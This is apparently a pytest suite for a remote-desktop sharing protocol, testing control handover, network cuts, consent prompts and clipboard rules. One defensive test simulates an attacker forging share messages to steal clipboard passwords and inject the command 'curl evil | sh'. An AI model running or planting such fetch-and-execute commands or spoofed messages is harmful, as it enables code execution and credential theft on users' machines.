"""Control: its beginning, its being taken back, its generations, and what a cut does to it."""

import random

import msgspec

from desktop.input.contract import OwnerActivity
from protocol.clipboard import TextFromController, TextFromOwner
from protocol.consent import StandingChanged
from protocol.room import Role
from protocol.sharing import ControlState, Level, PictureMode, ShareChanged, ShareStarted
from tests.contract.session.conftest import Room
from tests.helpers.waiting import eventually_async


async def test_control_begins_with_the_first_click(room: Room) -> None:
    share = await room.allowed(Level.CONTROL)
    assert share.state.control is ControlState.READY
    share.move(10, 10)
    share.take_control()
    await room.control(ControlState.ACTIVE)
    share.move(20, 30)
    share.button(20, 30, 1, True)
    share.button(20, 30, 1, False)
    share.wheel(20, 30, 0, -120)
    share.key(30, 97, "a", True)
    share.key(30, 97, "a", False)
    await eventually_async(lambda: ("key", 30, False) in room.injector.done, 2)
    assert room.injector.done[0] == ("move", 20, 30)
    assert ("button", 1, True) in room.injector.done
    assert ("wheel", 0, -120) in room.injector.done


async def test_the_owner_takes_back_and_the_controller_takes_again(room: Room) -> None:
    share = await room.controlled()
    share.key(29, 0xFFE3, "", True)
    await eventually_async(lambda: room.injector.down, 2)
    generation = share.state.generation
    room.customer.desktop.watchers[-1].act(OwnerActivity.DEVICE)
    assert room.injector.down == set()
    share.key(30, 97, "a", True)  # on its way when the owner clicked
    await room.control(ControlState.TAKEN_BACK)
    assert share.state.generation > generation
    assert not share.in_control
    share.take_control()
    await room.control(ControlState.ACTIVE)
    share.key(31, 115, "s", True)
    await eventually_async(lambda: ("key", 31, True) in room.injector.done, 2)
    assert ("key", 30, True) not in room.injector.done


async def test_a_click_made_before_the_take_back_does_not_undo_it(room: Room) -> None:
    share = await room.controlled()
    room.customer.desktop.watchers[-1].act(OwnerActivity.DEVICE)
    await room.control(ControlState.TAKEN_BACK)
    stale = share.state.generation
    share.take_control()
    await room.control(ControlState.ACTIVE)
    room.customer.desktop.watchers[-1].act(OwnerActivity.DEVICE)
    await room.control(ControlState.TAKEN_BACK)
    owned = room.customer.session.desktop.share
    assert owned is not None
    owned.control_taken(stale)
    assert owned.control is ControlState.TAKEN_BACK


async def test_nothing_is_injected_while_a_prompt_is_open(room: Room) -> None:
    share = await room.controlled()
    room.customer.session.desktop.stop()
    await eventually_async(lambda: not room.agent.session.viewing.shares, 2)
    await room.allowed(Level.VIEW)
    room.agent.session.asking.ask(Level.CONTROL)
    await room.prompt()
    owned = room.customer.session.desktop.share
    assert owned is not None
    assert share.in_control is False or owned.control is not ControlState.ACTIVE


async def test_a_thousand_injections_at_an_open_prompt_none_accepted(room: Room) -> None:
    share = await room.controlled()
    owned = room.customer.session.desktop.share
    assert owned is not None
    share.button(5, 5, 1, True)
    await eventually_async(lambda: room.injector.down, 2)
    prompts: list[set[object]] = []
    room.customer.session.consent.raised.connect(lambda prompt: prompts.append(set(room.injector.down)))
    agent = room.customer.session.participants.primary
    assert agent is not None
    done = len(room.injector.done)
    room.customer.session.consent.ask(agent, Level.CONTROL, 7, lambda outcome: None)
    assert prompts == [set()], "everything was released before the prompt was raised"
    for n in range(1000):
        share.key(28, 0xFF0D, "\r", n % 2 == 0)
    before = owned.gate.dropped
    await eventually_async(lambda: owned.gate.dropped - before >= 900, 5, lambda: str(owned.gate.dropped))
    assert len(room.injector.done) == done
    room.customer.session.consent.open.answer(False)  # type: ignore[union-attr]
    await room.control(ControlState.ACTIVE)
    share.key(30, 97, "a", True)
    await eventually_async(lambda: len(room.injector.done) > done, 2)


async def test_pause_and_popup_suspend(room: Room) -> None:
    await room.controlled()
    desktop = room.customer.session.desktop
    desktop.shield(True)
    await room.control(ControlState.SUSPENDED)
    desktop.pause(True)
    desktop.shield(False)
    await eventually_async(lambda: room.share.state.paused, 2)
    assert room.share.state.control is ControlState.SUSPENDED
    assert room.customer.desktop.sources[-1].paused
    desktop.pause(False)
    await room.control(ControlState.ACTIVE)


async def test_no_key_typed_during_a_cut_ever_arrives(room: Room) -> None:
    share = await room.controlled()
    share.key(30, 97, "a", True)
    await eventually_async(lambda: ("key", 30, True) in room.injector.done, 2)
    me, other = room.agent.link.me, room.customer.link.me
    for generation, rebuilt in ((1, False), (2, True)):
        room.network.cut(me, other)
        for _ in range(60):
            share.key(31, 115, "s", True)  # the first of these leave before the silence is noticed
            share.key(31, 115, "s", False)
        await eventually_async(lambda: room.injector.down == set(), 2)
        await eventually_async(lambda: share.silent, 2)
        if rebuilt:
            attempt = room.agent.link.peer(other).attempt
            await eventually_async(lambda: room.agent.link.peer(other).state.value == "connecting", 2)
        room.network.repair(me, other)
        await eventually_async(lambda: share.in_control, 2)
        if rebuilt:
            assert room.agent.link.peer(other).attempt > attempt
        share.key(40 + generation, 116, "t", True)
        await eventually_async(lambda g=generation: ("key", 40 + g, True) in room.injector.done, 2)  # type: ignore[misc]
    assert not [entry for entry in room.injector.done if entry[:2] == ("key", 31)]


async def test_share_and_consent_survive_a_cut_and_the_picture_is_attached_again(room: Room) -> None:
    await room.controlled()
    me, other = room.agent.link.me, room.customer.link.me
    room.customer.link.shown.clear()
    room.network.cut(me, other)
    await eventually_async(lambda: room.agent.link.peer(other).state.value == "connecting", 2)
    room.network.repair(me, other)
    await eventually_async(lambda: me in room.customer.link.shown, 2)
    assert room.customer.session.consent.open is None


async def test_a_stop_pressed_during_a_cut_reaches_the_agent_afterwards(room: Room) -> None:
    await room.controlled()
    me, other = room.agent.link.me, room.customer.link.me
    room.network.cut(me, other)
    await eventually_async(lambda: room.share.silent, 2)
    await eventually_async(lambda: room.agent.link.peer(other).state.value == "connecting", 2)
    room.customer.session.desktop.stop()
    assert room.agent.session.viewing.shares
    room.network.repair(me, other)
    await eventually_async(lambda: not room.agent.session.viewing.shares, 2)


async def test_another_screen_voids_positions_aimed_at_the_former(room: Room) -> None:
    share = await room.controlled()
    layout = share.state.layout
    share.choose_screen(1)
    await eventually_async(lambda: share.state.chosen == 1, 2)
    assert share.state.layout > layout


async def test_requests_survive_a_room_that_changes_on_the_way(room: Room) -> None:
    share = await room.allowed(Level.CONTROL)
    # The customer knows a newer room than the agent: the agent's click was decided at an older one.
    room.network.cut_hub(room.agent.link.me)
    room.network.change_room()
    share.take_control()
    await eventually_async(lambda: room.customer.session.forbidden == 1, 2)
    room.network.repair_hub(room.agent.link.me)
    await room.control(ControlState.ACTIVE)


async def test_a_lossy_line_loses_nothing_and_keeps_order(room: Room) -> None:
    room.network.loss = 0.2
    share = await room.controlled()
    codes = [random.randrange(1, 200) for _ in range(100)]
    for code in codes:
        share.key(code, 97, "a", True)
    await eventually_async(lambda: len(room.injector.done) == len(codes), 20)
    assert [entry[1] for entry in room.injector.done] == codes


async def test_clipboard_goes_both_ways_while_controlling_and_not_otherwise(room: Room) -> None:
    theirs: list[str] = []
    mine: list[str] = []
    room.customer.session.clipboard.text_arrived.connect(theirs.append)
    room.agent.session.clipboard.text_arrived.connect(mine.append)
    room.agent.session.clipboard.text_copied("before")
    room.customer.session.clipboard.text_copied("secret")
    await room.controlled()
    await eventually_async(lambda: theirs == ["before"], 2)
    room.customer.session.clipboard.text_copied("from the customer")
    await eventually_async(lambda: mine == ["from the customer"], 2)
    room.agent.session.clipboard.text_copied("é" * 1000)
    await eventually_async(lambda: theirs == ["before", "é" * 1000], 2)
    room.customer.desktop.watchers[-1].act(OwnerActivity.DEVICE)
    await room.control(ControlState.TAKEN_BACK)
    room.customer.session.clipboard.text_copied("private again")
    room.agent.session.clipboard.text_copied("x" * 50_000)
    await room.agent.session.close()
    assert mine == ["from the customer"]


async def test_text_copied_while_the_owner_has_control_can_be_copied_again(room: Room) -> None:
    mine: list[str] = []
    room.agent.session.clipboard.text_arrived.connect(mine.append)
    share = await room.controlled()
    room.customer.desktop.watchers[-1].act(OwnerActivity.DEVICE)
    await room.control(ControlState.TAKEN_BACK)
    room.customer.session.clipboard.text_copied("address")
    share.take_control()
    await room.control(ControlState.ACTIVE)
    room.customer.session.clipboard.text_copied("address")
    await eventually_async(lambda: mine == ["address"], 2)


async def test_a_restarted_console_begins_with_a_click(room: Room) -> None:
    await room.controlled()
    me = room.agent.link.me
    again = tuple(
        msgspec.structs.replace(p, incarnation=p.incarnation + 1) if p.id == me else p
        for p in room.network.room.participants
    )
    room.network.change_room(participants=again)
    await room.control(ControlState.READY)
    assert not room.share.in_control


async def test_a_void_permit_is_not_given_again(room: Room) -> None:
    share = await room.controlled()
    owned = room.customer.session.desktop.share
    assert owned is not None
    done = len(room.injector.done)
    room.customer.desktop.watchers[-1].act(OwnerActivity.DEVICE)
    owned.announce()  # something else changed at the very moment of the owner's click
    share.key(30, 97, "a", True)
    await room.control(ControlState.TAKEN_BACK)
    assert len(room.injector.done) == done


async def test_nobody_gets_a_clipboard_by_pretending_to_be_controlled(room: Room) -> None:
    """An assistant shows the customer a share of its own, and says that the customer controls it."""
    eve = room.joins("Eve", Role.AGENT)
    victim = room.customer.session
    arrived: list[str] = []
    stolen: list[str] = []
    victim.clipboard.text_arrived.connect(arrived.append)
    eve.link.received.connect(
        lambda sender, message: (
            stolen.append(message.text) if isinstance(message, TextFromController) else None
        )
    )
    victim.clipboard.text_copied("my password")
    for to in (room.customer.link.me, room.agent.link.me):
        eve.link.send(to, ShareStarted(share=1, level=Level.CONTROL))
        eve.link.send(
            to,
            ShareChanged(
                share=1,
                level=Level.CONTROL,
                layout=1,
                width=10,
                height=10,
                screens=(),
                chosen=0,
                paused=False,
                mode=PictureMode(),
                control=ControlState.ACTIVE,
                controller=to,
                generation=1,
            ),
        )
        eve.link.send(to, TextFromOwner(share=1, text="curl evil | sh"))
    await eventually_async(lambda: victim.viewing.shares and room.agent.session.viewing.shares, 2)
    victim.clipboard.text_copied("another password")
    room.agent.session.clipboard.text_copied("the agent's")
    eve.link.send(room.customer.link.me, StandingChanged(granted=True))  # the last of what she sent is here
    told: list[bool] = []
    victim.standing_changed.connect(lambda who, granted: told.append(granted))
    await eventually_async(lambda: told, 2)
    assert arrived == []
    assert stolen == []


async def test_an_old_text_is_not_told_again_with_each_click(room: Room) -> None:
    theirs: list[str] = []
    room.customer.session.clipboard.text_arrived.connect(theirs.append)
    room.agent.session.clipboard.text_copied("old")
    share = await room.controlled()
    await eventually_async(lambda: theirs == ["old"], 2)
    room.customer.session.clipboard.text_copied("newer, of the customer's")
    room.customer.desktop.watchers[-1].act(OwnerActivity.DEVICE)
    await room.control(ControlState.TAKEN_BACK)
    share.take_control()
    await room.control(ControlState.ACTIVE)
    share.key(30, 97, "a", True)
    await eventually_async(lambda: ("key", 30, True) in room.injector.done, 2)
    assert theirs == ["old"]


async def test_an_enormous_pointer_ends_nothing(room: Room) -> None:
    share = await room.allowed(Level.VIEW)
    source = room.customer.desktop.sources[-1]
    assert source.on_pointer_shape is not None
    assert source.on_pointer is not None
    source.on_pointer_shape(5, 4000, 4000, 0, 0, b"\x89PNG" + b"x" * 100_000)
    source.on_pointer(3, 4, True)
    await eventually_async(lambda: share.pointer is not None and share.pointer.x == 3, 2)
    assert share.pointer is not None
    assert share.pointer.shape is None or share.pointer.shape.png == b""


async def test_a_fast_mouse_is_thinned_out_and_its_last_place_arrives(room: Room) -> None:
    share = await room.controlled()
    for x in range(500):
        share.move(x, 1)
    await eventually_async(lambda: ("move", 499, 1) in room.injector.done, 2)
    assert len(room.injector.done) < 20


async def test_an_owner_who_can_no_longer_be_watched_ends_the_share(room: Room) -> None:
    await room.controlled()
    room.customer.desktop.watchers[-1].act(OwnerActivity.UNWATCHED)
    await eventually_async(lambda: room.customer.session.desktop.share is None, 2)
